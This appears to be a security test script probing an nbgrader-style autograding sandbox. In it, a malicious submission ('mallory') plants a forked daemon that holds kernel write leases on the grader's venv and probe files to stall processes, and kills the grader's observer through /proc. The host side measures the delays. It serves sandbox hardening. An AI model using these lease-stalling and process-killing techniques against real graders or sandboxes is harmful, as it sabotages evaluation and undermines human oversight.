"""a05: F_SETLEASE is not filtered, and as an ordinary user the venv and the clone belong to the sandbox's own host
uid (65534), so a kernel may put write leases on the files it sees read-only (the venv's pyvenv.cfg and
site-packages, probes/, helpers/). Any other process that opens a leased file (root included) then blocks until
the holder lets go or fs.lease-break-time (45 s) passes. A daemon of mallory's kernel takes leases on those files
and holds them (re-taking each after a break) for the whole notebook; the host meanwhile times opening them and a
fresh start of the venv's python (what each submission's launcher and observer are); a check's child kills the
observer so that the grader must start a new one (a new `python -I -m grader.sandbox --observer`) under the leases."""
import sys, os, time, threading, subprocess
sys.path.insert(0, __import__("os").path.dirname(__import__("os").path.abspath(__file__)))
from harness import *
A = "ps1_memory"
lease = r'''
import os, fcntl, time, sys, glob, signal
signal.signal(signal.SIGIO, signal.SIG_IGN)  # a lease break signals the holder (SIGIO kills by default)
F_SETLEASE = 1024
_targets = [sys.prefix + "/pyvenv.cfg"]
_sp = [p for p in sys.path if p.endswith("site-packages")][0]
for _pat in ("psutil/*.py", "psutil/*.so", "nbformat/*.py", "jupyter_client/*.py", "zmq/__init__.py", "traitlets/*.py",
             "cloudpickle/*.py", "sqlalchemy/__init__.py", "nbgrader/*.py", "nbconvert/__init__.py"):
    _targets += glob.glob(os.path.join(_sp, _pat))
import probes, helpers
_targets += glob.glob(os.path.dirname(probes.__file__) + "/*.py") + glob.glob(os.path.dirname(helpers.__file__) + "/*.py")
_targets += glob.glob(os.path.dirname(probes.__file__) + "/__pycache__/*.pyc") + glob.glob(os.path.dirname(helpers.__file__) + "/__pycache__/*.pyc")
_targets += glob.glob(os.path.join(_sp, "psutil/__pycache__/*.pyc"))
def _take(path):
    try:
        fd = os.open(path, os.O_RDONLY)
    except OSError as e:
        return None, "open " + e.strerror
    try:
        fcntl.fcntl(fd, F_SETLEASE, fcntl.F_WRLCK)
        return fd, "WRLCK"
    except OSError as e1:
        try:
            fcntl.fcntl(fd, F_SETLEASE, fcntl.F_RDLCK)
            return fd, "RDLCK (" + e1.strerror + ")"
        except OSError as e2:
            os.close(fd)
            return None, "refused " + e2.strerror
_res = {}
for _p in _targets[:1100]:
    fd, why = _take(_p)
    _res[why] = _res.get(why, 0) + 1
    if fd is not None: os.close(fd)
_fd, _why = _take(_targets[0])
if _fd is not None: os.close(_fd)
print("LEASE TRIAL", len(_targets), _res, "pyvenv:", _why)
if os.fork() == 0:  # the holder: keeps every lease, takes it again once a break has passed
    os.setsid()
    signal.signal(signal.SIGIO, signal.SIG_IGN)
    held = {}
    while True:
        for p in _targets[:1100]:
            fd = held.get(p)
            if fd is not None:
                try:
                    if fcntl.fcntl(fd, 1025) != fcntl.F_UNLCK:  # F_GETLEASE
                        continue
                except OSError:
                    pass
                os.close(fd); held.pop(p)
            fd, why = _take(p)
            if fd is not None: held[p] = fd
        time.sleep(0.2)
'''
kill_obs = r'''
import os, signal
def _kill_observer():
    for p in os.listdir("/proc"):
        if p.isdigit() and int(p) != os.getpid():
            try:
                if b"observer" in open(f"/proc/{p}/comm","rb").read(): os.kill(int(p), signal.SIGKILL)
            except OSError: pass
'''
pdm = sol(A, "per_device_memory")
tm = sol(A, "training_memory").replace("def training_memory(model, optimizer):", "def training_memory(model, optimizer):\n    _kill_observer()", 1)
d = make_course("a05", A, {"mallory": {"per_device_memory": pdm + "\n" + lease, "training_memory": kill_obs + tm}})
# training_memory comes before per_device_memory in the notebook: move the lease to the first answer cell instead
import nbformat
p = f"{d}/submitted/mallory/{A}/{A}.ipynb"
nb = nbformat.read(p, 4)
ids = [c.metadata.get("nbgrader", {}).get("grade_id") for c in nb.cells]
print("answer/test order:", [i for i in ids if i][:12])
log = []
stop = threading.Event()
def sampler():
    t0 = time.time()
    files = ["CLONE/.venv/pyvenv.cfg", "CLONE/probes/wire.py", "CLONE/.venv/lib/python3.11/site-packages/psutil/__init__.py"]
    while not stop.is_set():
        row = [round(time.time() - t0, 1)]
        for f in files:
            t = time.time()
            try: open(f).close()
            except OSError: pass
            row.append(round(time.time() - t, 2))
        t = time.time(); subprocess.run(["CLONE/.venv/bin/python", "-c", "import psutil"]); row.append(round(time.time() - t, 2))
        log.append(row); print('SAMPLE', row, flush=True); time.sleep(1)
th = threading.Thread(target=sampler, daemon=True); th.start(); time.sleep(3); print('log so far', log, flush=True)
r, el = grade(d, A)
stop.set(); th.join()
scores(d, A)
print("\n".join(l for l in outputs(d, "mallory", A).split("\n") if "LEASE" in l or "observer" in l.lower())[:3000])
print("host samples [t, open pyvenv.cfg, open probes/wire.py, open psutil/__init__.py, venv python -c 'import psutil']:")
for row in log: print(row)
import re
for line in r.stderr.split("\n"):
    if "graded" in line or "failed" in line: print(line[-200:])
